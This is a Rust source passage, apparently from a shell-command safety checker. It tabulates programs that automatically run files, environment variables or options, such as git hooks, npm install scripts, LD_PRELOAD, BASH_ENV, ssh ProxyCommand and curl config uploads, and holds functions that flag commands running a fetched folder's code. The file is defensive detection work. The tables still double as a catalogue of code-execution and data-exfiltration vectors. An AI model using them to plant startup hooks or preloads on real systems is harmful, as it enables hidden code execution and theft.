/// The files a JavaScript package manager reads and whose scripts it runs, and the folder
/// of the packages' programs, which a script's command names by their name alone
const PACKAGE_MANAGER_FILES: &[&str] = &[
    "/node_modules/.bin/",
    "package.json",
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    ".pnpmfile.cjs",
];

/// The files Docker Compose reads when none is named
const COMPOSE_FILES: &[&str] = &[
    "compose.yaml",
    "compose.yml",
    "docker-compose.yaml",
    "docker-compose.yml",
    "compose.override.yaml",
    "compose.override.yml",
    "docker-compose.override.yaml",
    "docker-compose.override.yml",
];

/// Every program that runs files it finds, one row each
pub(crate) const AUTORUNS: &[Autorun] = &[
    Autorun {
        programs: &["git"],
        subcommands: &[
            "commit",
            "merge",
            "pull",
            "push",
            "checkout",
            "switch",
            "rebase",
            "am",
            "cherry-pick",
            "revert",
            "clone",
            "gc",
            "worktree",
        ],
        files: &["/.git/hooks/", "/.githooks/", "/.husky/"],
        variables: &[],
        options: &[],
        reads: false,
    },
    Autorun {
        programs: &["npm"],
        subcommands: &[
            "install",
            "i",
            "ci",
            "add",
            "run",
            "run-script",
            "test",
            "t",
            "start",
            "stop",
            "restart",
            "publish",
            "pack",
            "rebuild",
            "exec",
            "x",
        ],
        files: PACKAGE_MANAGER_FILES,
        variables: &[],
        options: &[],
        reads: false,
    },
    // Yarn, pnpm and Bun run a script of `package.json` by its name alone (`yarn build`),
    // and install with no subcommand at all.
    Autorun {
        programs: &["pnpm", "yarn", "bun"],
        subcommands: &[],
        files: PACKAGE_MANAGER_FILES,
        variables: &[],
        options: &[],
        reads: false,
    },
    Autorun {
        programs: &["python", "python3", "python2", "pip", "pip3", "pytest"],
        subcommands: &[],
        files: &[
            "sitecustomize.py",
            "usercustomize.py",
            "conftest.py",
            "setup.py",
        ],
        variables: &["PYTHONSTARTUP", "PYTHONPATH"],
        options: &[],
        reads: false,
    },
    Autorun {
        programs: &["bash", "sh", "dash", "zsh", "ksh"],
        subcommands: &[],
        files: &[],
        variables: &["BASH_ENV", "ENV", FUNCTION_VARIABLES],
        options: SHELL_VALUED_LONG,
        reads: false,
    },
    // ld.so(8): every dynamically linked program first loads the libraries `LD_PRELOAD`
    // names (blanks or colons between them) and the auditing ones of `LD_AUDIT`, found by
    // a bare name in the folders of `LD_LIBRARY_PATH` before the system's.
    Autorun {
        programs: &[],
        subcommands: &[],
        files: &[],
        variables: &["LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH"],
        options: &[],
        reads: false,
    },
    // perlrun(1), ruby(1), node(1): the folders an interpreter looks for a module in
    // before its own; a file written there shadows a module the code loads by name.
    Autorun {
        programs: &["perl", "cpan", "prove"],
        subcommands: &[],
        files: &[],
        variables: &["PERL5LIB", "PERLLIB"],
        options: &[],
        reads: false,
    },
    Autorun {
        programs: &["ruby", "irb", "gem", "bundle", "rake", "rspec"],
        subcommands: &[],
        files: &[],
        variables: &["RUBYLIB"],
        options: &[],
        reads: false,
    },
    Autorun {
        programs: &["node", "npm", "npx", "yarn", "pnpm"],
        subcommands: &[],
        files: &[],
        variables: &["NODE_PATH"],
        options: &[],
        reads: false,
    },
    // A database client's settings file may carry statements it runs on connecting
    // (mysql's `init-command=`, psql's and sqlite3's startup files hold meta-commands and
    // SQL, mongosh's run JavaScript): one written on the line runs what only it knows.
    // ssh_config(5): `ProxyCommand`, `LocalCommand` and `KnownHostsCommand` run command
    // lines; `ssh -F FILE` reads FILE instead of `~/.ssh/config`.
    Autorun {
        programs: &["ssh", "scp", "sftp"],
        subcommands: &[],
        files: &["/.ssh/config"],
        variables: &[],
        options: &["-F"],
        reads: true,
    },
    Autorun {
        programs: &["mysql", "mariadb"],
        subcommands: &[],
        files: &[".my.cnf", ".mylogin.cnf"],
        variables: &[],
        options: &["--defaults-file", "--defaults-extra-file"],
        reads: true,
    },
    Autorun {
        programs: &["psql"],
        subcommands: &[],
        files: &[".psqlrc"],
        variables: &["PSQLRC"],
        options: &[],
        reads: true,
    },
    Autorun {
        programs: &["sqlite3", "duckdb"],
        subcommands: &[],
        files: &[".sqliterc", ".duckdbrc"],
        variables: &[],
        options: &["-init"],
        reads: true,
    },
    Autorun {
        programs: &["mongosh", "mongo"],
        subcommands: &[],
        files: &[".mongoshrc.js", ".mongorc.js"],
        variables: &[],
        options: &[],
        reads: false,
    },
    // An HTTP client's settings file holds its options (curl's `upload-file =`, `output =`,
    // wget's `post_file =`): one written on the line makes what it sends and writes unknown.
    Autorun {
        programs: &["curl"],
        subcommands: &[],
        files: &[".curlrc"],
        variables: &[],
        options: &["-K", "--config"],
        reads: true,
    },
    Autorun {
        programs: &["wget", "wget2"],
        subcommands: &[],
        files: &[".wgetrc", ".wget2rc"],
        variables: &["WGETRC"],
        options: &["--config"],
        reads: true,
    },
    // direnv runs a folder's `.envrc` (bash) when it is allowed and on every `direnv exec`.
    Autorun {
        programs: &["direnv"],
        subcommands: &[],
        files: &[".envrc"],
        variables: &[],
        options: &[],
        reads: false,
    },
    // Task runners run the recipes of the project's task file, a shell's or their own
    // language's code.
    Autorun {
        programs: &["just"],
        subcommands: &[],
        files: &["justfile", "Justfile", ".justfile"],
        variables: &[],
        options: &["-f", "--justfile"],
        reads: false,
    },
    Autorun {
        programs: &["rake"],
        subcommands: &[],
        files: &[
            "Rakefile",
            "rakefile",
            "Rakefile.rb",
            "rakefile.rb",
            "*.rake",
        ],
        variables: &[],
        options: &["-f", "--rakefile"],
        reads: false,
    },
    Autorun {
        programs: &["task", "go-task"],
        subcommands: &[],
        files: &[
            "Taskfile.yml",
            "Taskfile.yaml",
            "taskfile.yml",
            "taskfile.yaml",
        ],
        variables: &[],
        options: &["-t", "--taskfile"],
        reads: false,
    },
    Autorun {
        programs: &["invoke", "inv"],
        subcommands: &[],
        files: &["tasks.py"],
        variables: &[],
        options: &["-f", "--collection"],
        reads: false,
    },
    Autorun {
        programs: &["nox"],
        subcommands: &[],
        files: &["noxfile.py", "conftest.py"],
        variables: &[],
        options: &["-f", "--noxfile"],
        reads: false,
    },
    Autorun {
        programs: &["tox"],
        subcommands: &[],
        files: &["tox.ini", "pyproject.toml", "setup.cfg", "conftest.py"],
        variables: &[],
        options: &["-c"],
        reads: false,
    },
    Autorun {
        programs: &["deno"],
        subcommands: &["task", "test", "bench"],
        files: &[
            "deno.json",
            "deno.jsonc",
            "*_test.ts",
            "*.test.ts",
            "*_test.js",
            "*.test.js",
        ],
        variables: &[],
        options: &["-c", "--config"],
        reads: false,
    },
    // Test runners run the test files they collect (and their settings' hooks).
    Autorun {
        programs: &["pytest", "py.test"],
        subcommands: &[],
        files: &[
            "test_*.py",
            "*_test.py",
            "pytest.ini",
            "pyproject.toml",
            "setup.cfg",
            "tox.ini",
        ],
        variables: &[],
        options: &["-c", "--rootdir", "-p"],
        reads: false,
    },
    // The package managers' `test` (and a `run` of a script) run the project's test runner.
    Autorun {
        programs: &["npm", "pnpm", "yarn", "bun"],
        subcommands: &["test", "t", "run", "run-script"],
        files: &[
            "*.test.js",
            "*.test.ts",
            "*.spec.js",
            "*.spec.ts",
            "*.test.mjs",
            "*.test.tsx",
            "*.spec.tsx",
        ],
        variables: &[],
        options: &[],
        reads: false,
    },
    Autorun {
        programs: &["jest", "vitest", "mocha", "ava", "playwright"],
        subcommands: &[],
        files: &[
            "*.test.js",
            "*.test.ts",
            "*.spec.js",
            "*.spec.ts",
            "*.test.mjs",
            "*.test.tsx",
            "*.spec.tsx",
            "jest.config.*",
            "vitest.config.*",
            "playwright.config.*",
            ".mocharc.*",
            "package.json",
        ],
        variables: &[],
        options: &["-c", "--config"],
        reads: false,
    },
    Autorun {
        programs: &["go"],
        subcommands: &["test", "generate", "vet"],
        files: &["*_test.go", "*.go"],
        variables: &[],
        options: &[],
        reads: false,
    },
    Autorun {
        programs: &["cargo"],
        subcommands: &[
            "build", "b", "run", "r", "test", "t", "check", "c", "bench", "clippy",
        ],
        files: &[
            "build.rs",
            "Cargo.toml",
            "/.cargo/config.toml",
            "/.cargo/config",
            "*.rs",
        ],
        variables: &[],
        options: &[],
        reads: false,
    },
    Autorun {
        programs: &["bundle"],
        subcommands: &["exec", "install", "update"],
        files: &["Gemfile"],
        variables: &[],
        options: &[],
        reads: false,
    },
    Autorun {
        programs: &["composer"],
        subcommands: &["run", "run-script", "install", "update", "test"],
        files: &["composer.json"],
        variables: &[],
        options: &[],
        reads: false,
    },
    // Gradle runs init scripts before any build (`-I`, `~/.gradle/init.d/`), and CMake the
    // scripts of `-P` (and the cache scripts of `-C`), as code of their own languages.
    Autorun {
        programs: &["gradle", "gradlew"],
        subcommands: &[],
        files: &[
            "/.gradle/init.d/",
            "/.gradle/init.gradle",
            "/.gradle/init.gradle.kts",
        ],
        variables: &[],
        options: &["-I", "--init-script", "-c", "--settings-file"],
        reads: false,
    },
    Autorun {
        programs: &["cmake"],
        subcommands: &[],
        files: &["CMakeLists.txt", "*.cmake"],
        variables: &[],
        options: &["-P", "-C"],
        reads: false,
    },
    // Git hook managers run the commands their settings file names (`entry:`, `run:`).
    Autorun {
        programs: &["pre-commit", "prek"],
        subcommands: &[],
        files: &[".pre-commit-config.yaml", ".pre-commit-hooks.yaml"],
        variables: &[],
        options: &["-c", "--config"],
        reads: false,
    },
    Autorun {
        programs: &["lefthook"],
        subcommands: &[],
        files: &["lefthook.yml", ".lefthook.yml", "lefthook-local.yml"],
        variables: &[],
        options: &[],
        reads: false,
    },
    Autorun {
        programs: &["gradle", "gradlew", "mvn", "mvnw"],
        subcommands: &[],
        files: &[
            "build.gradle",
            "build.gradle.kts",
            "settings.gradle",
            "settings.gradle.kts",
            "pom.xml",
            // Maven reads its JVM's options (`-javaagent:…`), its own and its extensions
            // from `.mvn/`; Gradle its JVM's from `gradle.properties`.
            "/.mvn/",
            "gradle.properties",
        ],
        variables: &[],
        options: &["-b", "--build-file", "-f", "--file"],
        reads: false,
    },
    // A bundler's, a framework's, a transpiler's or a test runner's settings file is code it
    // runs first.
    Autorun {
        programs: JS_TOOLS,
        subcommands: &[],
        files: &[
            "vite.config.*",
            "vitest.config.*",
            "webpack.config.*",
            "rollup.config.*",
            "next.config.*",
            "nuxt.config.*",
            "astro.config.*",
            "svelte.config.*",
            "tsup.config.*",
            "babel.config.*",
            ".babelrc.*",
            "postcss.config.*",
            "tailwind.config.*",
            "eslint.config.*",
            ".eslintrc.*",
            "prettier.config.*",
            ".prettierrc.*",
            "remix.config.*",
            "gatsby-config.*",
            "gatsby-node.*",
            "metro.config.*",
            "app.config.*",
            "rspack.config.*",
            "jest.config.*",
            "vitest.workspace.*",
            ".mocharc.*",
            "ava.config.*",
            "playwright.config.*",
            "cypress.config.*",
            "karma.conf.*",
            "/.storybook/",
        ],
        variables: &[],
        options: &["-c", "--config"],
        reads: false,
    },
    // docker-compose(1): a Compose file says which images run, with which of the host's
    // folders and privileges, and what they run.
    Autorun {
        programs: &["docker-compose", "podman-compose"],
        subcommands: &[],
        files: COMPOSE_FILES,
        variables: &["COMPOSE_FILE"],
        options: &["-f", "--file"],
        reads: false,
    },
    Autorun {
        programs: &["docker", "podman"],
        subcommands: &["compose"],
        files: COMPOSE_FILES,
        variables: &["COMPOSE_FILE"],
        options: &["-f", "--file"],
        reads: false,
    },
    // gdb(1) runs the commands of `.gdbinit` (the home's, and a folder's it is allowed to);
    // meson(1) runs `meson.build`, whose `run_command` runs programs.
    Autorun {
        programs: &["gdb"],
        subcommands: &[],
        files: &[".gdbinit", "/.config/gdb/"],
        variables: &[],
        options: &[],
        reads: false,
    },
    // Terraform and OpenTofu read every `*.tf` of their folder, and run what an `external`
    // data source, a provisioner or a module fetched by `init` says, as they init, plan or
    // apply; terragrunt runs the hooks of `terragrunt.hcl`.
    Autorun {
        programs: &["terraform", "tofu", "terragrunt"],
        subcommands: &[
            "init", "plan", "apply", "destroy", "refresh", "import", "console", "test", "run-all",
        ],
        files: &["*.tf", "*.tf.json", "terragrunt.hcl"],
        variables: &[],
        options: &[],
        reads: false,
    },
    Autorun {
        programs: &["meson"],
        subcommands: &[],
        files: &["meson.build", "meson_options.txt", "meson.options"],
        variables: &[],
        options: &[],
        reads: false,
    },
    // gcc(1) and clang(1) load a plugin (`-fplugin=FILE`) or a specs file (`-specs=FILE`)
    // before they compile.
    Autorun {
        programs: &["gcc", "g++", "cc", "c++", "clang", "clang++"],
        subcommands: &[],
        files: &[],
        variables: &[],
        options: COMPILER_LOADS,
        reads: false,
    },
    // make(1): the makefiles `MAKEFILES` names are read before the others.
    Autorun {
        programs: &["make", "gmake"],
        subcommands: &[],
        files: &[],
        variables: &["MAKEFILES"],
        options: &[],
        reads: false,
    },
    // Ruby's consoles run their settings file, Ruby code, as they start.
    Autorun {
        programs: &["irb", "pry"],
        subcommands: &[],
        files: &[".irbrc", ".pryrc"],
        variables: &["IRBRC"],
        options: &[],
        reads: false,
    },
    // node(1) loads the modules of `--require`, `--import` and `--loader` before the program.
    Autorun {
        programs: &["node", "nodejs"],
        subcommands: &[],
        files: &[],
        variables: &[],
        options: NODE_LOADS,
        reads: false,
    },
    // Vim runs the Vim script of its settings files as it starts (a folder's `.exrc` and
    // `.vimrc` with 'exrc' set).
    Autorun {
        programs: &["vim", "vi", "nvim", "ex", "view", "gvim"],
        subcommands: &[],
        files: &[
            ".vimrc",
            ".exrc",
            ".nvimrc",
            "_vimrc",
            "/.vim/",
            "/.config/nvim/",
        ],
        variables: &[],
        options: &[],
        reads: false,
    },
    // The JavaScript task runners run their task file, JavaScript or CoffeeScript.
    Autorun {
        programs: &["gulp", "grunt", "jake", "brunch"],
        subcommands: &[],
        files: &[
            "gulpfile.*",
            "Gulpfile.*",
            "Gruntfile.*",
            "gruntfile.*",
            "Jakefile",
            "Jakefile.*",
            "jakefile.*",
            "brunch-config.*",
        ],
        variables: &[],
        options: &["-f", "--gulpfile", "--gruntfile", "--jakefile"],
        reads: false,
    },
];

/// The rows of [`AUTORUNS`] for `program`, or the Python module it runs (`python3 -m
/// pytest`), in the table's order: those naming either, and those naming no program. The
/// rows are found by name, not asked one by one: most programs are in none.
pub(crate) fn autoruns<'a>(
    program: &'a str,
    module: Option<&'a str>,
) -> impl Iterator<Item = &'static Autorun> + 'a {
    static BY_NAME: ByName = LazyLock::new(|| by_name::index(AUTORUNS, |row| row.programs));
    // The rows naming no program, which every program gets
    static UNNAMED: LazyLock<Box<[usize]>> = LazyLock::new(|| {
        (0..AUTORUNS.len())
            .filter(|at| AUTORUNS.get(*at).is_some_and(|row| row.programs.is_empty()))
            .collect()
    });
    let mut named: Vec<usize> = by_name::positions(&BY_NAME, program)
        .chain(
            module
                .into_iter()
                .flat_map(|module| by_name::positions(&BY_NAME, module)),
        )
        .collect();
    // Rows naming the program go in among the others, in the table's order.
    if !named.is_empty() {
        named.extend(UNNAMED.iter());
        named.sort_unstable();
        named.dedup();
    }
    let unnamed = named.is_empty().then(|| UNNAMED.iter().copied());
    named
        .into_iter()
        .chain(unnamed.into_iter().flatten())
        .filter_map(|at| AUTORUNS.get(at))
}

/// Whether `path`, a file written on the line, is one an [`Autorun`] row's `file` names:
/// a part of its path (`/.git/hooks/`), its name, or a pattern of its name with one `*`
/// (`test_*.py`)
pub(crate) fn autorun_file(file: &str, path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    match file.split_once('*') {
        Some((start, end)) => {
            name.len() >= start.len() + end.len() && name.starts_with(start) && name.ends_with(end)
        }
        None => path.contains(file) || name == file,
    }
}

/// A program that runs code of the folder it works in: a package manager's lifecycle
/// scripts and the scripts it runs by name, a build tool's build files and build scripts, a
/// task runner's tasks, a test runner's tests and settings files. In a folder fetched on
/// the same line (`git clone URL d && cd d && npm install`), what it runs is only known then;
/// in the project's own folder it is the project's everyday work.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct FolderRunner {
    /// The programs (a Python module too, as `python3 -m pytest` runs it)
    pub(crate) programs: &'static [&'static str],
    /// The subcommands with which it runs the folder's code, after its global options;
    /// `""` stands for none at all (`yarn` alone installs)
    pub(crate) subcommands: Subcommands,
    /// Options naming the folder it works in instead of its working directory, or a file
    /// of that folder it reads (`make -C DIR`, `npm --prefix DIR`, `cargo --manifest-path
    /// DIR/Cargo.toml`), next, after `=`, or glued to a short one
    pub(crate) folders: &'static [&'static str],
    /// Flags with which it runs none of the folder's code (`npm ci --ignore-scripts`)
    pub(crate) idle: &'static [&'static str],
    /// What of the folder it runs, for the reason given (`the scripts of`)
    pub(crate) runs: &'static str,
}

/// The flags with which any [`FolderRunner`] only prints what it is or how it is used
const ONLY_PRINTS: &[&str] = &["--version", "--help", "-h"];

/// npm's commands that install the folder's packages, running the lifecycle scripts of its
/// `package.json` (`preinstall`, `install`, `postinstall`, `prepare`, …) unless told not to
const NPM_INSTALLS: &[&str] = &[
    "install",
    "ci",
    "install-test",
    "install-ci-test",
    "update",
    "rebuild",
    "pack",
    "publish",
    "version",
    "link",
];

/// Yarn's, pnpm's and Bun's commands that install the folder's packages
const JS_INSTALLS: &[&str] = &[
    "install", "i", "add", "a", "update", "up", "upgrade", "rebuild", "rb", "remove", "rm",
];

/// Yarn's, pnpm's and Bun's commands that run none of the folder's code, beside those that
/// install: any other word is a command that runs it, or the name of a script (`yarn dev`)
const JS_INSTALLS_OR_IDLE: &[&str] = &[
    "",
    "install",
    "i",
    "add",
    "a",
    "update",
    "up",
    "upgrade",
    "rebuild",
    "rb",
    "remove",
    "rm",
    "info",
    "view",
    "why",
    "list",
    "ls",
    "ll",
    "outdated",
    "audit",
    "licenses",
    "config",
    "c",
    "help",
    "cache",
    "store",
    "global",
    "login",
    "logout",
    "whoami",
    "owner",
    "tag",
    "team",
    "search",
    "s",
    "dlx",
    "x",
    "create",
    "init",
    "bin",
    "root",
    "env",
    "setup",
    "doctor",
    "completion",
    "completions",
    "plugin",
    "set",
    "npm",
];

/// JavaScript's bundlers, frameworks, linters and test runners: their settings files are code
/// they run first (`vite.config.ts`, `eslint.config.js`, [`AUTORUNS`]), and the tests they
/// find are code too ([`FOLDER_RUNNERS`])
const JS_TOOLS: &[&str] = &[
    "jest",
    "vitest",
    "mocha",
    "ava",
    "playwright",
    "cypress",
    "karma",
    "vite",
    "webpack",
    "webpack-cli",
    "rollup",
    "next",
    "nuxt",
    "nuxi",
    "astro",
    "svelte-kit",
    "tsup",
    "parcel",
    "babel",
    "postcss",
    "tailwindcss",
    "eslint",
    "prettier",
    "remix",
    "gatsby",
    "expo",
    "metro",
    "rspack",
    "turbo",
    "nx",
    "lerna",
    "storybook",
];

/// Every program that runs code of the folder it works in, one row each (see
/// [`FolderRunner`]); a script run by its path (`./gradlew`, `./configure`) is read as any
/// file of a fetched folder is, and an installer given a fetched folder (`pip install ./d`)
/// by [`installed_package`]
pub(crate) const FOLDER_RUNNERS: &[FolderRunner] = &[
    FolderRunner {
        programs: &["npm"],
        subcommands: Subcommands::OneOf(NPM_INSTALLS),
        folders: &["--prefix", "-C"],
        idle: &["--ignore-scripts"],
        runs: "the install scripts of",
    },
    // npm-run-script(1): `--ignore-scripts` leaves out the `pre` and `post` scripts, never
    // the one a command names.
    FolderRunner {
        programs: &["npm"],
        subcommands: Subcommands::OneOf(&[
            "run", "test", "start", "stop", "restart", "exec", "explore",
        ]),
        folders: &["--prefix", "-C"],
        idle: &[],
        runs: "the scripts of",
    },
    // Yarn alone installs; pnpm and Bun alone print their help.
    FolderRunner {
        programs: &["yarn"],
        subcommands: Subcommands::OneOf(&[""]),
        folders: &["--cwd"],
        idle: &["--ignore-scripts", "--mode=skip-build"],
        runs: "the install scripts of",
    },
    FolderRunner {
        programs: &["yarn", "pnpm", "bun"],
        subcommands: Subcommands::OneOf(JS_INSTALLS),
        folders: &["--cwd", "-C", "--dir"],
        idle: &["--ignore-scripts", "--mode=skip-build"],
        runs: "the install scripts of",
    },
    FolderRunner {
        programs: &["yarn", "pnpm", "bun"],
        subcommands: Subcommands::AnyBut(JS_INSTALLS_OR_IDLE),
        folders: &["--cwd", "-C", "--dir"],
        idle: &[],
        runs: "the scripts of",
    },
    FolderRunner {
        programs: &["deno"],
        subcommands: Subcommands::OneOf(&["task", "test", "bench"]),
        folders: &["--cwd", "-c", "--config"],
        idle: &[],
        runs: "the tasks and tests of",
    },
    FolderRunner {
        programs: JS_TOOLS,
        subcommands: Subcommands::Any,
        folders: &["-c", "--config", "--root", "--dir"],
        idle: &[],
        runs: "the settings files and tests of",
    },
    // A makefile's `$(shell …)` runs as it is read, even for `make -n`.
    FolderRunner {
        programs: &["make", "gmake", "bmake", "pmake", "remake"],
        subcommands: Subcommands::Any,
        folders: &["-C", "--directory", "-f", "--file", "--makefile"],
        idle: &[],
        runs: "the recipes of",
    },
    FolderRunner {
        programs: &["cmake"],
        subcommands: Subcommands::Any,
        folders: &["-S", "--build"],
        idle: &["-E"],
        runs: "the build files of",
    },
    FolderRunner {
        programs: &["ninja", "samu", "meson", "scons"],
        subcommands: Subcommands::Any,
        folders: &["-C", "-f", "--directory", "--file"],
        idle: &[],
        runs: "the build files of",
    },
    FolderRunner {
        programs: &["bazel", "bazelisk"],
        subcommands: Subcommands::AnyBut(&["", "version", "help", "shutdown", "license"]),
        folders: &[],
        idle: &[],
        runs: "the build files of",
    },
    // Cargo runs build scripts and procedural macros, and reads the folder's
    // `.cargo/config.toml`, which names programs it runs (`build.rustc-wrapper`), for
    // nearly every command.
    FolderRunner {
        programs: &["cargo"],
        subcommands: Subcommands::AnyBut(&[
            "",
            "help",
            "version",
            "search",
            "login",
            "logout",
            "owner",
            "yank",
            "new",
            "init",
            "fmt",
            "locate-project",
        ]),
        folders: &["--manifest-path", "-C", "--path"],
        idle: &[],
        runs: "the build code and settings of",
    },
    // `go generate` runs the commands of `//go:generate` lines; a build runs no code of the
    // module.
    FolderRunner {
        programs: &["go"],
        subcommands: Subcommands::OneOf(&["generate", "test", "run"]),
        folders: &["-C"],
        idle: &[],
        runs: "the code of",
    },
    FolderRunner {
        programs: &["pytest", "py.test", "unittest", "tox", "nox"],
        subcommands: Subcommands::Any,
        folders: &[
            "--rootdir",
            "-c",
            "--confcutdir",
            "--root",
            "-f",
            "--noxfile",
        ],
        idle: &[],
        runs: "the tests and settings of",
    },
    // Python's project managers build the folder's own package (its `setup.py`, its build
    // backend's hooks) before they run anything in its environment.
    FolderRunner {
        programs: &["uv"],
        subcommands: Subcommands::OneOf(&["sync", "run", "build", "lock"]),
        folders: &["--directory", "--project"],
        idle: &[],
        runs: "the build code of",
    },
    FolderRunner {
        programs: &["poetry", "pdm", "hatch", "pipenv", "rye", "pixi"],
        subcommands: Subcommands::OneOf(&[
            "install", "sync", "run", "build", "shell", "test", "lock", "env",
        ]),
        folders: &["-C", "--directory", "-P", "--project", "-p"],
        idle: &[],
        runs: "the build code and scripts of",
    },
    // A `Rakefile`, a `Gemfile` and a gemspec are Ruby, which the tool runs to read them.
    FolderRunner {
        programs: &["rake"],
        subcommands: Subcommands::Any,
        folders: &["-f", "--rakefile", "-C", "--directory"],
        idle: &[],
        runs: "the tasks of",
    },
    FolderRunner {
        programs: &["bundle", "rails"],
        subcommands: Subcommands::AnyBut(&["version", "help", "init", "config", "new", "gem"]),
        folders: &["--gemfile"],
        idle: &[],
        runs: "the Ruby code of",
    },
    FolderRunner {
        programs: &["gem"],
        subcommands: Subcommands::OneOf(&["build"]),
        folders: &[],
        idle: &[],
        runs: "the gemspec of",
    },
    FolderRunner {
        programs: &["composer"],
        subcommands: Subcommands::OneOf(&[
            "install",
            "i",
            "update",
            "u",
            "upgrade",
            "require",
            "r",
            "remove",
            "rm",
            "dump-autoload",
            "dumpautoload",
        ]),
        folders: &["-d", "--working-dir"],
        idle: &["--no-scripts"],
        runs: "the scripts of",
    },
    FolderRunner {
        programs: &["composer"],
        subcommands: Subcommands::OneOf(&["run", "run-script", "exec", "test"]),
        folders: &["-d", "--working-dir"],
        idle: &[],
        runs: "the scripts of",
    },
    // Gradle's build scripts are Groovy or Kotlin, sbt's Scala, Leiningen's Clojure, and a
    // Maven build runs its plugins (`exec`, `antrun`) and the folder's `.mvn/` settings.
    FolderRunner {
        programs: &["gradle", "gradlew", "mvn", "mvnw", "sbt", "lein", "ant"],
        subcommands: Subcommands::Any,
        folders: &[
            "-p",
            "--project-dir",
            "-b",
            "--build-file",
            "-c",
            "--settings-file",
            "-f",
            "--file",
            "-buildfile",
        ],
        idle: &[],
        runs: "the build files of",
    },
    FolderRunner {
        programs: &["mix"],
        subcommands: Subcommands::AnyBut(&["new", "help", "local.hex", "local.rebar"]),
        folders: &[],
        idle: &[],
        runs: "the Elixir code of",
    },
    FolderRunner {
        programs: &["cabal", "stack"],
        subcommands: Subcommands::OneOf(&[
            "build", "run", "test", "install", "exec", "repl", "ghci", "bench",
        ]),
        folders: &[],
        idle: &[],
        runs: "the build code of",
    },
    // `Package.swift` is Swift, compiled and run to read it; MSBuild's project files run
    // the commands of their `Exec` tasks.
    FolderRunner {
        programs: &["swift", "dotnet"],
        subcommands: Subcommands::OneOf(&[
            "build", "run", "test", "package", "restore", "publish", "pack", "msbuild",
        ]),
        folders: &["--package-path", "--project"],
        idle: &[],
        runs: "the build code of",
    },
    // A `shell.nix` or a flake's dev shell runs its `shellHook`; `nix run` runs what the
    // folder's flake builds.
    FolderRunner {
        programs: &["nix-shell"],
        subcommands: Subcommands::Any,
        folders: &[],
        idle: &["-p", "--packages"],
        runs: "the Nix code of",
    },
    FolderRunner {
        programs: &["nix"],
        subcommands: Subcommands::OneOf(&["develop", "run", "shell"]),
        folders: &[],
        idle: &[],
        runs: "the Nix code of",
    },
    FolderRunner {
        programs: &["just", "task", "go-task", "invoke", "inv"],
        subcommands: Subcommands::Any,
        folders: &[
            "-f",
            "--justfile",
            "-d",
            "--working-directory",
            "-t",
            "--taskfile",
            "--dir",
            "-r",
            "--search-root",
            "--collection",
        ],
        idle: &[],
        runs: "the tasks of",
    },
    // Git hook managers run the commands their settings file names, and direnv the
    // folder's `.envrc`.
    FolderRunner {
        programs: &["pre-commit", "prek", "lefthook"],
        subcommands: Subcommands::Any,
        folders: &["-c", "--config"],
        idle: &[],
        runs: "the hooks of",
    },
    FolderRunner {
        programs: &["direnv"],
        subcommands: Subcommands::OneOf(&["allow", "exec"]),
        folders: &[],
        idle: &[],
        runs: "the `.envrc` of",
    },
];

/// The row of [`FOLDER_RUNNERS`] by which `program` (or the Python module `python3 -m`
/// runs), given `args`, runs code of the folder it works in, with the subcommand it takes
/// (`""` for none); `unknown` tells a word only known at run time, which before the
/// subcommand may be any
pub(crate) fn folder_runner<'a>(
    program: &str,
    args: &'a [String],
    unknown: fn(&str) -> bool,
) -> Option<(&'static FolderRunner, &'a str)> {
    static BY_NAME: ByName = LazyLock::new(|| by_name::index(FOLDER_RUNNERS, |row| row.programs));
    if args.iter().any(|arg| ONLY_PRINTS.contains(&arg.as_str())) {
        return None;
    }
    by_name::rows(FOLDER_RUNNERS, &BY_NAME, program).find_map(|row| {
        let subcommand = runner_subcommand(program, row, args, unknown);
        let runs = match (row.subcommands, subcommand) {
            (Subcommands::Any, _) | (_, None) => true,
            (Subcommands::OneOf(only), Some(sub)) => only.contains(&sub),
            (Subcommands::AnyBut(idle), Some(sub)) => !idle.contains(&sub),
        };
        (runs && !args.iter().any(|arg| row.idle.contains(&arg.as_str())))
            .then(|| (row, subcommand.unwrap_or_default()))
    })
}

/// The first operand of `args` after the global options of `program` and the folder
/// options of `row` with their values (`npm --prefix d ci`, `go -C d generate`, `uv
/// --directory d sync`), named as the program resolves it; `""` for none, and `None` when a
/// word before it is only known at run time (`npm $CMD`)
fn runner_subcommand<'a>(
    program: &str,
    row: &FolderRunner,
    args: &'a [String],
    unknown: fn(&str) -> bool,
) -> Option<&'a str> {
    let valued = global_valued_options(program);
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        if unknown(arg) {
            return None;
        }
        if arg == "--" {
            break;
        }
        if arg.starts_with('-') {
            if valued.contains(&arg.as_str()) || row.folders.contains(&arg.as_str()) {
                words.next();
            }
            continue;
        }
        return Some(command_name(program, arg));
    }
    Some("")
}

/// The words `args` give to the options of `row` that name the folder a [`FolderRunner`]
/// works in (`-C DIR`, `--prefix=DIR`, `-CDIR`)
pub(crate) fn runner_folders<'a>(row: &FolderRunner, args: &'a [String]) -> Vec<&'a str> {
    let mut folders = Vec::new();
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        if arg == "--" {
            break;
        }
        if row.folders.contains(&arg.as_str()) {
            folders.extend(words.next().map(String::as_str));
        } else if let Some((name, value)) = arg.split_once('=') {
            if row.folders.contains(&name) {
                folders.push(value);
            }
        } else if let Some(value) = row.folders.iter().find_map(|option| {
            // A short option's value glued to it (`make -Cdir`), as getopt reads it.
            (option.len() == 2 && !option.starts_with("--"))
                .then(|| arg.strip_prefix(option))
                .flatten()
                .filter(|value| !value.is_empty())
        }) {
            folders.push(value);
        }
    }
    folders
}

/// The local path an installer's `spec` names (`.`, `./d`, `../d/x.whl`, `file:../d`), as
/// pip and npm tell a path from a package's name: it starts with `.`, `/` or `~`, or holds a
/// `/` (but for a scope, `@types/node`); `None` for a name or a URL
pub(crate) fn local_package(spec: &str) -> Option<&str> {
    let path = spec.strip_prefix("file:").unwrap_or(spec);
    let is_path = path.starts_with(['.', '/', '~'])
        || (path.contains('/') && !path.starts_with('@') && !path.contains(':'));
    is_path.then_some(path)
}

/// A database client and how its statements reach a shell
#[derive(Debug)]
pub(crate) struct DatabaseClient {
    /// The program
    pub(crate) name: &'static str,
    /// The options whose value is statements (`psql -c`), also glued with `=`
    pub(crate) code_options: &'static [&'static str],
    /// Whether the operands after the first (the database) are statements (`sqlite3 db SQL`)
    pub(crate) statement_operands: bool,
    /// How a line of its statements runs a command line
